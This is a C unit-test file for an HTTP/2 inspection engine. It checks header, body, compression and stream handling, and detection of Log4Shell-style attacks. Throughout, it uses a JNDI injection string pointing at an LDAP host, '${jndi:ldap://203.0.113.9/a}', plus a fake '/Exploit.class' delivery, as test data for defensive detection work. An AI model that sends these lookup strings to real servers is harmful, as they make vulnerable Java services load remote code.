/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "inspect/inspector.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "base/count.h"
#include "inspect/hold.h"
#include "inspect/http2_hpack.h"
#include "support/conversation.h"
#include "support/h2.h"
#include "support/pack.h"
#include "support/wire.h"

#define LOOKUP "${jndi:ldap://203.0.113.9/a}"

static const struct h2_pair get[] = {{":method", "GET"},
                                     {":scheme", "http"},
                                     {":authority", "app.example"},
                                     {":path", "/index?q=" LOOKUP},
                                     {"user-agent", "curl/7.88"},
                                     {NULL, NULL}};
static const struct h2_pair post[] = {{":method", "POST"},
                                      {":scheme", "http"},
                                      {":authority", "app.example"},
                                      {":path", "/api"},
                                      {"content-type", "application/json"},
                                      {NULL, NULL}};
static const struct h2_pair ok[] = {{":status", "200"}, {"content-type", "text/plain"}, {NULL, NULL}};

static struct buf packed_of(struct bytes plain)
{
    struct buf packed = buf_within(100000);

    pack(PACK_GZIP, plain, 6, &packed);
    return packed;
}

/* A connection being written: two directions, in turns. */
struct talk_maker {
    struct h2 client, server;
    struct said said[64];
    size_t from[2];
    unsigned n;
};

static void make(struct talk_maker *m)
{
    *m = (struct talk_maker){.n = 0};
    h2_begin(&m->client);
    h2_begin(&m->server);
}

/* What one side has written since its last turn. */
static void turn(struct talk_maker *m, unsigned side)
{
    struct bytes all = h2_bytes(side ? &m->server : &m->client);

    /* The buffer moves as it grows: views are taken when all is written. */
    m->said[m->n++] = (struct said){side, {NULL, all.len - m->from[side]}, 0};
    m->from[side] = all.len;
}

static void views(struct talk_maker *m)
{
    size_t at[2] = {0, 0};

    for (unsigned i = 0; i < m->n; i++) {
        struct bytes all = h2_bytes(m->said[i].side ? &m->server : &m->client);
        size_t *from = &at[m->said[i].side];

        m->said[i].data = bytes_slice(all, *from, *from + m->said[i].data.len);
        *from += m->said[i].data.len;
    }
}

static struct transcript play_said(const struct talk_maker *m, const struct config *config)
{
    struct conversation c = {.said = m->said, .n = m->n, .proto = PROTO_TCP, .parts = true};
    struct transcript t;

    count_reset();
    conversation_play(&c, config, &t);
    assert_int_equal(holds_bytes(), 0);
    assert_int_equal(http2_hpack_bytes(), 0);
    return t;
}

static struct transcript play_with(struct talk_maker *m, const struct config *config)
{
    views(m);
    return play_said(m, config);
}

static struct transcript play(struct talk_maker *m)
{
    struct config config = conversation_config();

    return play_with(m, &config);
}

static void over(struct talk_maker *m, struct transcript *t)
{
    transcript_drop(t);
    h2_drop(&m->client);
    h2_drop(&m->server);
}

static void same_in_pieces(struct talk_maker *m)
{
    struct config config = conversation_config();

    views(m);
    conversation_assert_same_in_pieces(m->said, m->n, &config);
}

static void assert_has(const struct transcript *t, const char *needle)
{
    if (!transcript_has(t, needle))
        fail_msg("no \"%s\" in:\n%.*s\nraw: %.*s", needle, (int)t->text.len, (const char *)t->text.p,
                 (int)t->raw[0].len, (const char *)t->raw[0].p);
}

static void request_and_response(void **state)
{
    struct talk_maker m;
    struct transcript t;

    (void)state;
    make(&m);
    h2_preface(&m.client);
    h2_headers(&m.client, HTTP2_END_STREAM, 1, get);
    turn(&m, 0);
    h2_settings(&m.server);
    h2_headers(&m.server, 0, 1, ok);
    h2_frame(&m.server, HTTP2_DATA, HTTP2_END_STREAM, 1, BYTES_LIT("hello"));
    turn(&m, 1);
    t = play(&m);
    assert_has(&t, "0 http2 http.method #0 GET\n");
    assert_has(&t, "0 http2 http.uri #0 /index?q=" LOOKUP "\n");
    assert_has(&t, "0 http2 http.request_header #0 :authority: app.example\n");
    assert_has(&t, "0 http2 http.request_header #0 user-agent: curl/7.88\n");
    assert_has(&t, "1 http2 http.response_header #0 :status: 200\n");
    assert_has(&t, "1 http2 http.response_body #0 hello\n");
    assert_int_equal(t.raw[0].len + t.raw[1].len, 0);
    assert_int_equal(counters[COUNT_INSPECT_HTTP2], 1);
    assert_int_equal(counters[COUNT_HTTP_REQUESTS], 1);
    assert_int_equal(counters[COUNT_HTTP_RESPONSES], 1);
    assert_int_equal(counters[COUNT_HTTP2_GAVE_UP], 0);
    same_in_pieces(&m);
    over(&m, &t);
}

/* Bodies of two streams, padded, in turns; trailers; headers cut over CONTINUATION. */
static void streams_interleave(void **state)
{
    struct talk_maker m;
    struct transcript t;
    struct bytes block;

    (void)state;
    make(&m);
    h2_preface(&m.client);
    h2_headers(&m.client, 0, 1, post);
    block = h2_block(&m.client, post);
    h2_frame(&m.client, HTTP2_HEADERS, HTTP2_PRIORITISED, 3,
             BYTES_LIT("\x00\x00\x00\x01\x0f")); /* no byte of the block yet */
    h2_frame(&m.client, HTTP2_CONTINUATION, 0, 3, bytes_slice(block, 0, 3));
    h2_frame(&m.client, HTTP2_CONTINUATION, 0, 3, bytes_of(NULL, 0));
    h2_frame(&m.client, HTTP2_CONTINUATION, HTTP2_END_HEADERS, 3, bytes_from(block, 3));
    h2_frame(&m.client, HTTP2_DATA, HTTP2_PADDED, 1, BYTES_LIT("\x04{\"a\":\"${jndi:\0\0\0\0"));
    h2_frame(&m.client, HTTP2_DATA, 0, 3, BYTES_LIT("{\"b\":\"${jn"));
    h2_frame(&m.client, HTTP2_PING, 0, 0, BYTES_LIT("12345678"));
    h2_frame(&m.client, HTTP2_DATA, HTTP2_PADDED | HTTP2_END_STREAM, 1, BYTES_LIT("\x00ldap://h/1}\"}"));
    h2_frame(&m.client, HTTP2_DATA, 0, 3, BYTES_LIT("di:ldap://h/2}\"}"));
    h2_headers(&m.client, HTTP2_END_STREAM, 3, (const struct h2_pair[]){{"x-sum", LOOKUP}, {NULL, NULL}});
    turn(&m, 0);
    t = play(&m);
    assert_has(&t, "0 http2 http.request_body #0 {\"a\":\"${jndi:ldap://h/1}\"}\n");
    assert_has(&t, "0 http2 http.request_body #1 {\"b\":\"${jndi:ldap://h/2}\"}\n");
    assert_has(&t, "0 http2 http.uri #1 /api\n");
    assert_has(&t, "0 http2 http.request_header #1 x-sum: " LOOKUP "\n");
    assert_int_equal(counters[COUNT_HTTP_REQUESTS], 2);
    assert_int_equal(t.raw[0].len, 0);
    same_in_pieces(&m);
    over(&m, &t);
}

/* References to the dynamic table in both later requests. */
static void repeated_headers(void **state)
{
    struct talk_maker m;
    struct transcript t;

    (void)state;
    make(&m);
    h2_preface(&m.client);
    for (uint32_t id = 1; id <= 5; id += 2)
        h2_headers(&m.client, HTTP2_END_STREAM, id, get);
    turn(&m, 0);
    t = play(&m);
    for (unsigned i = 0; i < 3; i++) {
        char line[100];

        (void)snprintf(line, sizeof line, "http.uri #%u /index?q=" LOOKUP, i);
        assert_has(&t, line);
    }
    over(&m, &t);
}

static void cookie_crumbs(void **state)
{
    static const struct h2_pair crumbs[] = {
        {":method", "GET"},      {":path", "/"},    {"cookie", "a=1"}, {"x", "between"},
        {"cookie", "b=" LOOKUP}, {"cookie", "c=3"}, {"${odd", "name"}, {NULL, NULL}};
    struct talk_maker m;
    struct transcript t;

    (void)state;
    make(&m);
    h2_preface(&m.client);
    h2_headers(&m.client, HTTP2_END_STREAM, 1, crumbs);
    turn(&m, 0);
    t = play(&m);
    assert_has(&t, "http.request_header #0 cookie: a=1; b=" LOOKUP "; c=3\n");
    assert_false(transcript_has(&t, "cookie: a=1\n"));
    assert_has(&t, "http.request_header #0 ${odd: name\n");
    over(&m, &t);
}

static void compressed_bodies(void **state)
{
    static const struct h2_pair gzip[] = {
        {":method", "POST"}, {":path", "/"}, {"content-encoding", "gzip"}, {NULL, NULL}};
    struct talk_maker m;
    struct transcript t;
    struct buf packed = packed_of(BYTES_LIT("{\"name\":\"" LOOKUP "\"}"));

    (void)state;
    make(&m);
    h2_preface(&m.client);
    h2_headers(&m.client, 0, 1, gzip);
    h2_frame(&m.client, HTTP2_DATA, 0, 1, bytes_slice(buf_bytes(&packed), 0, 15));
    h2_frame(&m.client, HTTP2_DATA, HTTP2_END_STREAM, 1, bytes_from(buf_bytes(&packed), 15));
    turn(&m, 0);
    t = play(&m);
    assert_has(&t, "http.request_body #0 {\"name\":\"" LOOKUP "\"}\n");
    same_in_pieces(&m);
    over(&m, &t);
    buf_drop(&packed);
}

static void compressed_answers(void **state)
{
    static const struct h2_pair gzip[] = {{":status", "200"}, {"content-encoding", "gzip"}, {NULL, NULL}};
    struct talk_maker m;
    struct transcript t;
    struct buf packed = packed_of(BYTES_LIT("{\"name\":\"" LOOKUP "\"}"));

    (void)state;
    make(&m);
    h2_preface(&m.client);
    h2_headers(&m.client, HTTP2_END_STREAM, 1, get);
    turn(&m, 0);
    h2_settings(&m.server);
    h2_headers(&m.server, 0, 1, gzip);
    h2_frame(&m.server, HTTP2_DATA, 0, 1, bytes_slice(buf_bytes(&packed), 0, 15));
    h2_frame(&m.server, HTTP2_DATA, HTTP2_END_STREAM, 1, bytes_from(buf_bytes(&packed), 15));
    turn(&m, 1);
    t = play(&m);
    assert_has(&t, "http.response_body #0 {\"name\":\"" LOOKUP "\"}\n");
    same_in_pieces(&m);
    over(&m, &t);
    buf_drop(&packed);
}

/* Class 2 of the pool, which constant 1 names. */
static const char class_file[] = "\xca\xfe\xba\xbe\0\0\0\x34\0\3"
                                 "\1\0\7Payload\7\0\1"
                                 "\0\x21\0\2\0\2\0\0\0\0\0\0\0\0";

/* A class file in an answer to a JVM. */
static void java_in_an_answer(void **state)
{
    static const struct h2_pair jvm[] = {
        {":method", "GET"}, {":path", "/Exploit.class"}, {"user-agent", "Java/1.8.0_181"}, {NULL, NULL}};
    struct talk_maker m;
    struct transcript t;

    (void)state;
    make(&m);
    h2_preface(&m.client);
    h2_headers(&m.client, HTTP2_END_STREAM, 1, jvm);
    turn(&m, 0);
    h2_settings(&m.server);
    h2_headers(&m.server, 0, 1, ok);
    h2_frame(&m.server, HTTP2_DATA, HTTP2_END_STREAM, 1, bytes_of(class_file, sizeof class_file - 1));
    turn(&m, 1);
    t = play(&m);
    assert_has(&t, "1 http2 fact #0 jndi.stage=class_delivery;java.content=class;java.client=yes;");
    same_in_pieces(&m);
    over(&m, &t);
}

static void a_fetch_that_leads_nowhere(void **state)
{
    static const struct h2_pair jvm[] = {
        {":method", "GET"}, {":path", "/Exploit.class"}, {"user-agent", "Java/1.8.0_181"}, {NULL, NULL}};
    static const struct h2_pair other[] = {
        {":method", "GET"}, {":path", "/Exploit.class"}, {"user-agent", "curl"}, {NULL, NULL}};
    static const struct h2_pair moved[] = {
        {":status", "302"}, {"location", "http://203.0.113.9/b.class"}, {NULL, NULL}};
    static const struct h2_pair absent[] = {{":status", "404"}, {"location", "/no"}, {NULL, NULL}};
    struct talk_maker m;
    struct transcript t;

    (void)state;
    make(&m);
    h2_preface(&m.client);
    h2_headers(&m.client, HTTP2_END_STREAM, 1, jvm);
    h2_headers(&m.client, HTTP2_END_STREAM, 3, jvm);
    h2_headers(&m.client, HTTP2_END_STREAM, 5, other);
    turn(&m, 0);
    h2_settings(&m.server);
    h2_headers(&m.server, HTTP2_END_STREAM, 5, absent);
    h2_headers(&m.server, HTTP2_END_STREAM, 3, absent);
    h2_headers(&m.server, HTTP2_END_STREAM, 1, moved);
    turn(&m, 1);
    t = play(&m);
    assert_has(&t, "java.fetch=redirected;http.location=http://203.0.113.9/b.class;");
    assert_has(&t, "http.stat_code=404;java.fetch=failed;");
    assert_false(transcript_has(&t, "#2 jndi.stage"));
    assert_false(transcript_has(&t, "http.location=/no"));
    same_in_pieces(&m);
    over(&m, &t);
}

static void promises_and_interim_answers(void **state)
{
    struct talk_maker m;
    struct transcript t;
    struct buf promise = buf_within(1000);

    (void)state;
    make(&m);
    h2_preface(&m.client);
    h2_headers(&m.client, HTTP2_END_STREAM, 1, get);
    turn(&m, 0);
    h2_settings(&m.server);
    buf_add(&promise, BYTES_LIT("\x00\x00\x00\x02"));
    buf_add(&promise,
            h2_block(&m.server, (const struct h2_pair[]){
                                    {":method", "GET"}, {":path", "/style"}, {"x", LOOKUP}, {NULL, NULL}}));
    h2_frame(&m.server, HTTP2_PUSH_PROMISE, HTTP2_END_HEADERS, 1, buf_bytes(&promise));
    h2_headers(&m.server, 0, 1,
               (const struct h2_pair[]){{":status", "103"}, {"link", "early"}, {NULL, NULL}});
    h2_headers(&m.server, 0, 1, ok);
    h2_headers(&m.server, 0, 2, ok);
    h2_frame(&m.server, HTTP2_DATA, HTTP2_END_STREAM, 2, BYTES_LIT("css"));
    h2_frame(&m.server, HTTP2_DATA, HTTP2_END_STREAM, 1, BYTES_LIT("html"));
    turn(&m, 1);
    t = play(&m);
    assert_has(&t, "1 http2 http.response_header #1 x: " LOOKUP "\n");
    assert_has(&t, "1 http2 http.response_header #0 link: early\n");
    assert_has(&t, "1 http2 http.response_body #1 css\n");
    assert_has(&t, "1 http2 http.response_body #0 html\n");
    assert_int_equal(counters[COUNT_HTTP_RESPONSES], 2);
    same_in_pieces(&m);
    over(&m, &t);
    buf_drop(&promise);
}

/* Text that is no header and no content: some server logs it. */
static void text_elsewhere(void **state)
{
    struct talk_maker m;
    struct transcript t;

    (void)state;
    make(&m);
    h2_preface(&m.client);
    h2_frame(&m.client, 0x0b, 0x55, 0, BYTES_LIT("grease " LOOKUP));
    h2_headers(&m.client, HTTP2_END_STREAM, 1, get);
    h2_frame(&m.client, HTTP2_DATA, 0, 1, BYTES_LIT("after the end " LOOKUP));
    h2_frame(&m.client, HTTP2_DATA, 0, 7, BYTES_LIT("a stream of its own " LOOKUP));
    h2_frame(&m.client, HTTP2_GOAWAY, 0, 0, BYTES_LIT("\0\0\0\x01\0\0\0\0debug " LOOKUP));
    turn(&m, 0);
    t = play(&m);
    assert_true(transcript_raw_has(&t, 0, "grease " LOOKUP));
    assert_true(transcript_raw_has(&t, 0, "after the end " LOOKUP));
    assert_true(transcript_raw_has(&t, 0, "a stream of its own " LOOKUP));
    assert_true(transcript_raw_has(&t, 0, "debug " LOOKUP));
    assert_int_equal(counters[COUNT_HTTP2_GAVE_UP], 0);
    over(&m, &t);
}

static void resets(void **state)
{
    struct talk_maker m;
    struct transcript t;

    (void)state;
    make(&m);
    h2_preface(&m.client);
    h2_headers(&m.client, 0, 1, post);
    h2_frame(&m.client, HTTP2_DATA, 0, 1, BYTES_LIT("cut off"));
    turn(&m, 0);
    h2_settings(&m.server);
    h2_headers(&m.server, 0, 1, ok);
    h2_frame(&m.server, HTTP2_DATA, 0, 1, BYTES_LIT("answer"));
    turn(&m, 1);
    h2_frame(&m.client, HTTP2_RST_STREAM, 0, 1, BYTES_LIT("\0\0\0\x08"));
    turn(&m, 0);
    t = play(&m);
    assert_has(&t, "0 http2 http.request_body #0 cut off\n");
    assert_has(&t, "1 http2 http.response_body #0 answer\n");
    assert_int_equal(counters[COUNT_HTTP2_RESETS], 1);
    over(&m, &t);
}

/* Whatever is no frame: the direction goes to the raw window at that byte, the other one goes on. */
static void nonsense(void **state)
{
    static const struct {
        uint8_t type, flags;
        uint32_t stream;
        struct bytes content;
    } rows[] = {
        {HTTP2_DATA, 0, 0, BYTES_LIT("no stream")},
        {HTTP2_HEADERS, HTTP2_END_HEADERS, 3, BYTES_LIT("\xff\xff\xff\xff\xff\xff")},
        {HTTP2_HEADERS, HTTP2_END_HEADERS, 3,
         BYTES_LIT("\x40\x05"
                   "a")}, /* ends inside a header */
        {HTTP2_HEADERS, HTTP2_END_HEADERS, 3, BYTES_LIT("\x80")},
        {HTTP2_HEADERS, HTTP2_PADDED | HTTP2_END_HEADERS, 3,
         BYTES_LIT("\x05"
                   "ab")},
        {HTTP2_HEADERS, HTTP2_PRIORITISED, 3,
         BYTES_LIT("\x05"
                   "ab")},
        {HTTP2_CONTINUATION, HTTP2_END_HEADERS, 1, BYTES_LIT("\x82")},
        {HTTP2_SETTINGS, 0, 0, BYTES_LIT("12345")},
        {HTTP2_SETTINGS, 0, 1, BYTES_LIT("123456")},
        {HTTP2_PING, 0, 0, BYTES_LIT("1234")},
        {HTTP2_RST_STREAM, 0, 1, BYTES_LIT("123")},
        {HTTP2_PUSH_PROMISE, HTTP2_END_HEADERS, 1, BYTES_LIT("123")},
        {HTTP2_GOAWAY, 0, 0, BYTES_LIT("123")},
        {0x77, 0, 0, BYTES_LIT("")},
    };

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        struct talk_maker m;
        struct transcript t;

        make(&m);
        h2_preface(&m.client);
        h2_headers(&m.client, HTTP2_END_STREAM, 1, get);
        h2_frame(&m.client, rows[i].type, rows[i].flags, rows[i].stream, rows[i].content);
        buf_add_str(&m.client.out, "X-Attack: " LOOKUP);
        turn(&m, 0);
        h2_settings(&m.server);
        h2_headers(&m.server, HTTP2_END_STREAM, 1, ok);
        turn(&m, 1);
        t = play(&m);
        if (!transcript_raw_has(&t, 0, "X-Attack: " LOOKUP))
            fail_msg("row %zu: the text behind it is not seen", i);
        assert_has(&t, "0 http2 http.uri #0");
        assert_has(&t, "1 http2 http.response_header #0 :status: 200\n");
        assert_int_equal(counters[COUNT_HTTP2_GAVE_UP], 1);
        /* How much of a bad block the inflater had taken depends on the pieces. */
        if (rows[i].type != HTTP2_HEADERS)
            same_in_pieces(&m);
        over(&m, &t);
    }
}

static void other_frame_inside_a_block(void **state)
{
    struct talk_maker m;
    struct transcript t;
    struct bytes block;

    (void)state;
    make(&m);
    h2_preface(&m.client);
    block = h2_literals(&m.client, (const struct h2_pair[]){{":path", LOOKUP}, {"x", "cut"}, {NULL, NULL}});
    h2_frame(&m.client, HTTP2_HEADERS, 0, 1, bytes_slice(block, 0, block.len - 2));
    h2_frame(&m.client, HTTP2_PING, 0, 0, BYTES_LIT("12345678"));
    turn(&m, 0);
    t = play(&m);
    assert_has(&t, "http.uri #0 " LOOKUP "\n"); /* what there was of it is judged */
    assert_int_equal(counters[COUNT_HTTP2_GAVE_UP], 1);
    over(&m, &t);
}

/* The capture began later: newer entries of the table are found, older ones are counted. */
static void midstream(void **state)
{
    struct config config = conversation_config();
    struct talk_maker m;
    struct transcript t;
    size_t unseen;

    (void)state;
    make(&m);
    h2_preface(&m.client);
    h2_headers(&m.client, HTTP2_END_STREAM, 1, get);
    unseen = h2_bytes(&m.client).len;
    for (uint32_t id = 3; id <= 5; id += 2)
        h2_headers(&m.client, HTTP2_END_STREAM, id,
                   (const struct h2_pair[]){{":method", "GET"},
                                            {":scheme", "http"},
                                            {":path", "/index?q=" LOOKUP},
                                            {"x-new", "aaaaaaaaaaaaaaaaaaaaa" LOOKUP},
                                            {"user-agent", "curl/7.88"},
                                            {NULL, NULL}});
    turn(&m, 0);
    views(&m);
    m.said[0].data = bytes_from(m.said[0].data, unseen);
    t = play_said(&m, &config);
    assert_has(&t, "http.request_header #0 x-new: aaaaaaaaaaaaaaaaaaaaa" LOOKUP "\n");
    assert_has(&t, "http.request_header #1 x-new: aaaaaaaaaaaaaaaaaaaaa" LOOKUP "\n");
    assert_has(&t, "http.method #1 GET\n");
    assert_int_equal(counters[COUNT_HTTP2_UNKNOWN_HEADERS], 2); /* the agent, twice */
    assert_int_equal(t.raw[0].len, m.said[0].data.len);         /* in doubt, as sent, too */
    over(&m, &t);
}

/* Holes: inside DATA the frame goes on behind it; elsewhere the next header block that begins a segment
 * counts. */
static void holes(void **state)
{
    struct config config = conversation_config();
    struct talk_maker m;
    struct transcript t;

    (void)state;
    make(&m);
    h2_preface(&m.client);
    h2_headers(&m.client, 0, 1, post);
    h2_frame(&m.client, HTTP2_DATA, 0, 1, BYTES_LIT("0123456789abcdefghij"));
    turn(&m, 0);
    h2_frame(&m.client, HTTP2_DATA, HTTP2_END_STREAM, 1, BYTES_LIT("second"));
    turn(&m, 0);
    h2_headers(&m.client, HTTP2_END_STREAM, 3, get);
    turn(&m, 0);
    h2_headers(&m.client, HTTP2_END_STREAM, 5,
               (const struct h2_pair[]){{":method", "PUT"}, {":path", "/other"}, {NULL, NULL}});
    turn(&m, 0);
    views(&m);
    m.said[0].data.len -= 10;
    m.said[1].missing = 10; /* the rest of the frame is missing, and what follows begins behind it */
    t = play_said(&m, &config);
    assert_has(&t, "http.request_body #0 0123456789\n");
    assert_has(&t, "http.request_body #0 second\n");
    assert_has(&t, "http.method #1 GET\n");
    assert_int_equal(counters[COUNT_HTTP2_GAVE_UP], 0);
    transcript_drop(&t);

    m.said[0].data.len += 10;
    views(&m);
    m.said[1] = m.said[3];
    m.said[1].missing = 100;
    m.n = 2;
    t = play_said(&m, &config);
    assert_has(&t, "http.request_body #0 0123456789abcdefghij\n");
    assert_has(&t, "http.method #1 PUT\n");
    over(&m, &t);
}

/* RFC 7540 3.2: the request came in HTTP/1, and is stream 1. */
static void upgrade(void **state)
{
    struct config config = conversation_config();
    struct talk_maker m;
    struct transcript t;
    struct said said[4];

    (void)state;
    make(&m);
    h2_settings(&m.server);
    h2_headers(&m.server, 0, 1, ok);
    h2_frame(&m.server, HTTP2_DATA, HTTP2_END_STREAM, 1, BYTES_LIT("first"));
    turn(&m, 1);
    h2_preface(&m.client);
    h2_headers(&m.client, HTTP2_END_STREAM, 3, get);
    turn(&m, 0);
    views(&m);
    said[0] = (struct said){
        0,
        BYTES_LIT(
            "GET /upgrade HTTP/1.1\r\nHost: h\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
            "HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"),
        0};
    said[1] = (struct said){
        1, BYTES_LIT("HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"), 0};
    said[2] = m.said[0];
    said[3] = m.said[1];
    memcpy(m.said, said, sizeof said);
    m.n = 4;
    t = play_said(&m, &config);
    conversation_assert_same_in_pieces(m.said, 4, &config);
    assert_has(&t, "0 http http.uri #0 /upgrade\n");
    assert_has(&t, "1 http2 http.response_body #1 first\n");
    assert_has(&t, "0 http2 http.uri #2 /index?q=" LOOKUP "\n");
    assert_int_equal(t.raw[0].len + t.raw[1].len, 0);
    over(&m, &t);
}

/* --- ceilings --- */

static void more_streams_than_the_ceiling(void **state)
{
    struct config config = conversation_config();
    struct talk_maker m;
    struct transcript t;

    (void)state;
    config.http2_max_streams = 4;
    make(&m);
    h2_preface(&m.client);
    for (uint32_t id = 1; id < 13; id += 2) {
        h2_headers(&m.client, 0, id, post);
        h2_frame(&m.client, HTTP2_DATA, 0, id, BYTES_LIT("${jndi:ldap:"));
    }
    for (uint32_t id = 1; id < 13; id += 2)
        h2_frame(&m.client, HTTP2_DATA, HTTP2_END_STREAM, id, BYTES_LIT("//h/" LOOKUP));
    turn(&m, 0);
    t = play_with(&m, &config);
    assert_int_equal(counters[COUNT_HTTP2_STREAMS_EVICTED], 2);
    assert_has(&t, "http.request_body #5 ${jndi:ldap://h/" LOOKUP "\n");
    assert_has(&t, "http.request_body #0 ${jndi:ldap:\n");
    assert_true(transcript_raw_has(&t, 0, "//h/" LOOKUP)); /* the rest of those that had to go */
    over(&m, &t);
}

/* One byte for a large entry, again and again: the repetitions are left out, what is new is not. */
static void header_bomb(void **state)
{
    struct talk_maker m;
    struct transcript t;
    struct buf block = buf_within(1 << 20);
    char large[3001];

    (void)state;
    memset(large, 'b', sizeof large - 1);
    large[sizeof large - 1] = 0;
    make(&m);
    h2_preface(&m.client);
    h2_headers(&m.client, HTTP2_END_STREAM, 1,
               (const struct h2_pair[]){{":path", "/"}, {"x", large}, {NULL, NULL}});
    for (unsigned i = 0; i < 10000; i++)
        buf_add_byte(&block, 0x80 | 62); /* the newest entry of the table */
    buf_add(&block, h2_literals(&m.client, (const struct h2_pair[]){{"x-behind", LOOKUP}, {NULL, NULL}}));
    h2_frame(&m.client, HTTP2_HEADERS, HTTP2_END_STREAM | HTTP2_END_HEADERS, 3, buf_bytes(&block));
    turn(&m, 0);
    t = play(&m);
    assert_true(counters[COUNT_HTTP2_REPEATED_HEADERS] > 9000);
    assert_true(t.text.len < 65536 + 144 * h2_bytes(&m.client).len); /* 128, and what the transcript adds */
    assert_has(&t, "http.request_header #1 x-behind: " LOOKUP "\n");
    assert_int_equal(counters[COUNT_HTTP2_GAVE_UP], 0);
    over(&m, &t);
    buf_drop(&block);
}

/* A list of 300 KB comes in pieces; a header that says how to read the body counts in any of them. */
static void endless_headers(void **state)
{
    struct talk_maker m;
    struct transcript t;
    struct buf packed = packed_of(BYTES_LIT("packed " LOOKUP));
    char filler[1001];

    (void)state;
    memset(filler, 'f', sizeof filler - 1);
    filler[sizeof filler - 1] = 0;
    make(&m);
    h2_preface(&m.client);
    h2_frame(
        &m.client, HTTP2_HEADERS, 0, 1,
        h2_literals(&m.client, (const struct h2_pair[]){{":method", "POST"}, {":path", "/"}, {NULL, NULL}}));
    for (unsigned i = 0; i < 300; i++)
        h2_frame(&m.client, HTTP2_CONTINUATION, 0, 1,
                 h2_literals(&m.client, (const struct h2_pair[]){{"x-filler", filler}, {NULL, NULL}}));
    h2_frame(&m.client, HTTP2_CONTINUATION, HTTP2_END_HEADERS, 1,
             h2_literals(&m.client, (const struct h2_pair[]){
                                        {"content-encoding", "gzip"}, {"x-last", LOOKUP}, {NULL, NULL}}));
    h2_frame(&m.client, HTTP2_DATA, HTTP2_END_STREAM, 1, buf_bytes(&packed));
    turn(&m, 0);
    t = play(&m);
    assert_has(&t, "http.request_header #0 x-last: " LOOKUP "\n");
    assert_has(&t, "http.request_body #0 packed " LOOKUP "\n");
    assert_int_equal(counters[COUNT_HTTP_HEAD_CUT], 1);
    over(&m, &t);
    buf_drop(&packed);
}

static void memory_short(void **state)
{
    struct config config = conversation_config();
    struct talk_maker m;
    struct transcript t;

    (void)state;
    config.http2_memcap = 2000; /* room for a stream, none for a table */
    make(&m);
    h2_preface(&m.client);
    h2_frame(&m.client, HTTP2_HEADERS, HTTP2_END_HEADERS, 1,
             h2_literals(&m.client, (const struct h2_pair[]){{":path", LOOKUP}, {NULL, NULL}}));
    turn(&m, 0);
    t = play_with(&m, &config);
    assert_true(counters[COUNT_INSPECT_MEMORY] > 0);
    assert_int_equal(counters[COUNT_HTTP2_GAVE_UP], 1);
    assert_true(transcript_raw_has(&t, 0, LOOKUP));
    over(&m, &t);
}

/* A flood of resets costs each time no more than the request it ends. */
static void rapid_resets(void **state)
{
    struct talk_maker m;
    struct transcript t;

    (void)state;
    make(&m);
    h2_preface(&m.client);
    for (uint32_t id = 1; id < 4001; id += 2) {
        h2_headers(&m.client, 0, id, post);
        h2_frame(&m.client, HTTP2_RST_STREAM, 0, id, BYTES_LIT("\0\0\0\x08"));
    }
    h2_headers(&m.client, HTTP2_END_STREAM, 4001, get);
    turn(&m, 0);
    t = play(&m);
    assert_int_equal(counters[COUNT_HTTP2_RESETS], 2000);
    assert_int_equal(counters[COUNT_HTTP2_STREAMS_EVICTED], 0);
    assert_has(&t, "http.uri #2000 /index?q=" LOOKUP "\n");
    over(&m, &t);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(request_and_response),
        cmocka_unit_test(streams_interleave),
        cmocka_unit_test(repeated_headers),
        cmocka_unit_test(cookie_crumbs),
        cmocka_unit_test(compressed_bodies),
        cmocka_unit_test(compressed_answers),
        cmocka_unit_test(java_in_an_answer),
        cmocka_unit_test(a_fetch_that_leads_nowhere),
        cmocka_unit_test(promises_and_interim_answers),
        cmocka_unit_test(text_elsewhere),
        cmocka_unit_test(resets),
        cmocka_unit_test(nonsense),
        cmocka_unit_test(other_frame_inside_a_block),
        cmocka_unit_test(midstream),
        cmocka_unit_test(holes),
        cmocka_unit_test(upgrade),
        cmocka_unit_test(more_streams_than_the_ceiling),
        cmocka_unit_test(header_bomb),
        cmocka_unit_test(endless_headers),
        cmocka_unit_test(memory_short),
        cmocka_unit_test(rapid_resets),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
